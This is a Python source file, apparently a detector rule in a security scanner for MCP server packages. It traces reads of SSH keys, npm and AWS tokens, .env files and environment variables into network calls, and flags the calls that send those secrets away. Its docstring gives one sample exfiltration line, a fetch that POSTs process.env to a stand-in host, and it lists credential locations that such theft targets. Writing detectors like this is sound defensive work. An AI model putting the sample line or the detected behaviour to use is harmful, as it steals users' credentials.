"""A credential that belongs to somebody else leaves the machine.

**What.** The package reads a secret that is not its own: SSH keys, the tokens in `~/.npmrc`,
`~/.aws/credentials`, `.netrc`, an `.env` file, browser profiles, key chains, wallets, the configuration of
other MCP clients, the output of a command that prints a password, the whole environment, or the variables of
several unrelated services. What was read, or something made of it (a JSON text, base64, a label of a host
name), reaches a call that talks to another machine: an HTTP client, a socket, a name lookup, a mail, or a
program such as `curl`. The way is followed through variables, functions, classes and files of the package.

**Why.** A server runs with your rights, so every credential in your home directory is within its
reach. Sending one away is theft, whatever the description of the tool says.

**Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`

**Left alone.** An API key from a variable that goes to its own service or into the header of a request to
an address of the package's configuration; a token of `~/.npmrc` in the authorization header of a registry
that is not fixed in the code; a key that is only used to open a connection.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors._catalogue import Entry, catalogue, encoded
from douane.detectors._credentials import Credential, CredentialReads, command_lines, may_read
from douane.detectors._flow import HOLE, program_of
from douane.detectors._places import evidence_at, is_aside
from douane.model import Confidence, Severity
from douane.rules import Evidence, Rule
from douane.syntax.walking import parts

if TYPE_CHECKING:
    from douane.detectors._flow import Program, State, Trace
    from douane.syntax import Codebase

_NETWORK = "code/network.toml"
_EXECUTION = "code/execution.toml"
_MANY = 4  # services whose secrets one message holds, where they are only known by the names of variables
_SMALL = 64 * 1024  # bytes of source up to which a package is followed even if it mentions no credential
_HOST = re.compile(r"^(?:[a-zA-Z][\w+.-]{1,20}:)?//(?:[^/@\s]*@)?([^/:?#\s]{1,255})")


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the calls that send a credential of somebody else away."""
    program = program_of(codebase)
    if program.size > _SMALL and not may_read(program):
        return
    thief = _Thief(program)
    sinks = catalogue(_NETWORK, "send", "lookup")
    for entry, call in sinks.calls(program, _talking(program, sinks.words)):
        yield from thief.judge(call, entry)
    command = douane_signatures.table(_NETWORK)["command"]
    for _, call in catalogue(_EXECUTION, "start").calls(program, _starting(program, command["words"])):
        if any(re.search(command["pattern"], line) for line in command_lines(program, call)):
            yield from thief.judge(call, None)


def _talking(program: Program, names: frozenset[bytes]) -> tuple[str, ...]:
    """Return the files that may talk to others: in a small package, also those that import nothing for it."""
    table = douane_signatures.table(_NETWORK)
    found = {*program.importing(frozenset(table["modules"])), *program.mentioning(encoded(table["words"]))}
    if found and program.size <= _SMALL:
        found.update(program.mentioning(names))
    return tuple(sorted(found))


def _starting(program: Program, words: list[str]) -> tuple[str, ...]:
    """Return the files that may start a program that talks to others."""
    modules = frozenset(douane_signatures.table(_EXECUTION)["starters"]["modules"])
    mentioning = frozenset(program.mentioning(encoded(words)))
    return tuple(path for path in program.importing(modules) if path in mentioning)


class _Thief:
    """Looks at single calls for credentials that reach them."""

    def __init__(self, program: Program) -> None:
        self._program = program
        self._reads = CredentialReads(program)
        self._known: dict[object, Credential | None] = {}
        self._tracer = program.tracer(self._source)

    def _source(self, state: State) -> str | None:
        key = state.key
        if key not in self._known:
            self._known[key] = self._reads.at(state)
        found = self._known[key]
        return found.what if found is not None else None

    def judge(self, call: State, entry: Entry | None) -> Iterator[Evidence]:
        """Yield evidence if the call at *call*, described by *entry*, is given a credential."""
        seen: dict[str, tuple[Credential, Trace, bool]] = {}
        hosts: tuple[str, ...] | None = None
        known = False
        for in_header, part in _payload(self._program, call):
            for trace in self._tracer.trace(part):
                credential = self._known[trace.at.key]
                if hosts is None:
                    hosts, known = _hosts(self._program, call, entry)
                if credential is not None and not _is_owner(credential, hosts):
                    before = seen.get(credential.what)
                    if before is None or (before[2] and not in_header):
                        seen[credential.what] = (credential, trace, in_header)
        found = _evidence(call, list(seen.values()), hosts or (), known=known)
        if found is not None:
            yield found


def _evidence(
    call: State, seen: list[tuple[Credential, Trace, bool]], hosts: tuple[str, ...], *, known: bool
) -> Evidence | None:
    stolen = [one for one in seen if one[0].kind != "variable" and (known or not one[2])]
    if not stolen:
        stolen = [one for one in seen if one[0].kind == "variable" and not one[2]]
        owners = {one[0].owner for one in stolen}
        if len([owner for owner in owners if not owner.startswith("?")]) < 2 and len(owners) < _MANY:
            return None
    credential, trace, _ = stolen[0]
    where = f" to {', '.join(hosts)}" if hosts else ""
    what = ", ".join(dict.fromkeys(one[0].what for one in stolen[:4]))
    severity = Severity.CRITICAL if known or credential.kind != "variable" else Severity.HIGH
    if is_aside(call.index.path):
        severity = Severity.LOW
    return evidence_at(
        call,
        why=f"sends {what}, read at {trace.at.index.path}:{trace.at.line},{where or ' away'}",
        severity=severity,
        confidence=Confidence.HIGH if known else Confidence.MEDIUM,
    )


def _payload(program: Program, call: State) -> Iterator[tuple[bool, State]]:
    """Yield what the call at *call* is given, and whether it travels in a header."""
    headers = frozenset(
        douane_signatures.table(_NETWORK.replace("network", "credentials"))["header"]["names"]
    )
    made = program.call(call)
    if made is None:
        return
    for name, node in made.keywords.items():
        yield name in headers, call.at(node)
    for argument in made.arguments:
        state = call.at(argument)
        taken = False
        for leaf in program.leaves(state):
            if leaf.node.type in ("object", "dictionary") and not leaf.steps:
                taken = True
                yield from _entries(leaf, headers)
        if not taken:
            yield False, state


def _entries(leaf: State, headers: frozenset[str]) -> Iterator[tuple[bool, State]]:
    for child in parts(leaf.node):
        key = child.child_by_field_name("key")
        name = leaf.index.text(key).strip("'\"") if key is not None else leaf.index.text(child)
        value = child.child_by_field_name("value") or child
        yield name in headers, leaf.at(value)


def _hosts(program: Program, call: State, entry: Entry | None) -> tuple[tuple[str, ...], bool]:
    """Return the hosts that *call* can talk to, and whether all of them are fixed in the code."""
    if entry is None:
        lines = command_lines(program, call)
        hosts = [match[1] for line in lines for match in re.finditer(r"://([^/:?#\s'\"]{1,255})", line)]
        return tuple(dict.fromkeys(hosts)), bool(hosts) and not any(HOLE in host for host in hosts)
    target = _destination(program, call, entry)
    if target is None:
        return (), False
    hosts = []
    for text in _addresses(program, target):
        match = _HOST.match(text)
        name = match[1] if match else text if entry.facts["destination"] != "unknown" else HOLE
        name = _zone(name) if "lookup" in entry.pattern.pattern or not match else name
        hosts.append(name if "." in name or name == "localhost" else HOLE)
    fixed = [host for host in hosts if HOLE not in host]
    return tuple(dict.fromkeys(fixed)), bool(hosts) and len(fixed) == len(hosts)


def _zone(name: str) -> str:
    """Return what of a looked-up name is fixed: the zone that gets to see the rest."""
    return name.rpartition(HOLE)[2].strip(".") if HOLE in name else name


def _destination(program: Program, call: State, entry: Entry) -> State | None:
    position = entry.facts["destination"]
    if position == "receiver":
        made = program.call(call)
        while made is not None and made.receiver is not None:
            for leaf in program.leaves(call.at(made.receiver)):
                inner = program.call(leaf)
                if inner is not None and inner.arguments:
                    return leaf.at(inner.arguments[0])
            made = program.call(call.at(made.receiver))
        return None
    return program.argument(call, position, "url", "uri", "host") if isinstance(position, int) else None


def _addresses(program: Program, target: State) -> tuple[str, ...]:
    """Return the texts of an address, which can be given as an object with a host in it."""
    texts = program.shapes(target)
    if texts != (HOLE,):
        return texts
    found: list[str] = []
    for leaf in program.leaves(target):
        made = program.call(leaf)
        if made is not None and made.arguments:  # `new URL(address)`, `Request(address, data=...)`
            found += program.shapes(leaf.at(made.arguments[0]))
    for name in ("hostname", "host", "url", "uri", "baseURL"):
        named = [leaf for leaf in program.leaves(target.at(target.node, (name,))) if not leaf.steps]
        found += [text for leaf in named for text in program.shapes(leaf)]
    return tuple(found) or texts


def _is_owner(credential: Credential, hosts: tuple[str, ...]) -> bool:
    """Whether all *hosts* belong to whoever issued *credential*."""
    return bool(hosts) and all(
        any(host == own or host.endswith(f".{own}") for own in credential.hosts) for host in hosts
    )


RULE = Rule(
    id="credential-exfiltration",
    summary="a credential of somebody else is sent away",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Do not install this package; if it ran, revoke the credentials it read.",
    taxonomy=("MCP01:2025", "SAFE-T1502", "SAFE-T1503", "SAFE-T1913", "AML.T0025", "AML.T0098"),
    code=look,
)
